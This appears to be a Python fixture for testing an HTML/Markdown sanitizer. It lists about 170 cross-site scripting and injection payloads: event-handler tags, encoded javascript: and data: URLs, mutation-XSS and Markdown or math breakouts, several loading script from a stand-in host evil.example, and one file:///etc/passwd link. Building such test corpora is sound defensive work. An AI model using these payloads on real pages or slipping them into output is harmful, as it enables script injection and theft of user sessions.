"""Ways to smuggle a script, a style or a foreign document into a page."""

_RAW = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
</script><script>alert(1)</script>
<script>alert(1)//
<script\x0ctype=x>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x`y" onerror="alert(1)">
<img src=javascript:alert(1)>
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="javascript:alert(1) 1x">
<img src=x srcset="data:image/svg+xml,x 1x">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,x#y">
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<object type=text/x-scriptlet data=//evil.example></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<base href=javascript:alert(1)//>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href=//evil.example>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0">x</div>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=javascript:alert(1)>
<input type=password name=password>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<textarea><img src=x onerror=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<form action=javascript:alert(1)><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<table background=javascript:alert(1)><tr><td>x</table>
<td background="javascript:alert(1)">x</td>
<a href=javascript:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href=vbscript:msgbox(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href=x onclick=alert(1)>x</a>
<a href="/" target=_blank ping=//evil.example>x</a>
<a id=location href=x>x</a><a name=body>x</a>
<p id=getElementById class="admin login-form">x</p>
<p onclick\x00=alert(1)>x</p>
<p/onclick=alert(1)>x</p>
<p "onclick=alert(1)>x</p>
<p title="><img src=x onerror=alert(1)>">x</p>
<abbr title='"><script>alert(1)</script>'>x</abbr>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<title><a title="</title><svg/onload=alert(1)>">
<plaintext><script>alert(1)</script>
<template><script>alert(1)</script></template>
<portal src=javascript:alert(1)></portal>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<custom-element onclick=alert(1)>x</custom-element>
<div is=x contenteditable onblur=alert(1) tabindex=1>x</div>
<div tabindex=99999 role=dialog>x</div>
<pre class="mermaid" onclick=alert(1)>x</pre>
<span class="math inline" onclick=alert(1)>\\href{javascript:alert(1)}{x}</span>
"""

_MARKDOWN = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](\\javascript:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java&#10;script:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](file:///etc/passwd)
[x](page:javascript:alert(1))
[x](https://a.b "onmouseover=alert(1)")
[x](https://a.b '"onmouseover="alert(1)')
[x](https://a.b"onmouseover="alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
<https://a.b"onmouseover="alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x" onerror="alert(1)](https://a.b/c.png)
![x](https://a.b/c.png"onerror="alert(1))
![x](image:1,class="onerror=alert(1),filter=<script>)
https://a.b/"onmouseover="alert(1)
https://a.b/'><script>alert(1)</script>
www.a.b/<script>alert(1)</script>
a@b.c"onclick="alert(1)
`<script>alert(1)</script>`
$</span><script>alert(1)</script>$
$\\href{javascript:alert(1)}{x}$
\\(x_1</span><img src=x onerror=alert(1)>\\)
# <img src=x onerror=alert(1)>
# x"onclick="alert(1)
- [ ] <script>alert(1)</script>
> [!NOTE]<script>alert(1)</script>
[^"><script>alert(1)</script>]: x
[^x"onclick="alert(1)] [^x"onclick="alert(1)]: y
""".replace("\\\\", "\\")

_BLOCKS = [
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick=alert(1)\nx\n```',
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
    "$$\n</div><script>alert(1)</script>\n$$",
    "|<script>alert(1)</script>|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "<div>\n\n```\n</div><script>alert(1)</script>\n```",
    "<div\nonclick=alert(1)\n>x</div>",
    "<a href='\njavascript:alert(1)'>x</a>",
    "[x][y]\n\n[y]: javascript:alert(1) 'z'",
    "x\n: <script>alert(1)</script>",
    "<script\n\n>alert(1)</script>",
    "<p title='\n\n'><script>alert(1)</script>",
]

VECTORS = [
    *_RAW.strip("\n").split("\n"),
    *_MARKDOWN.strip("\n").split("\n"),
    *_BLOCKS,
]
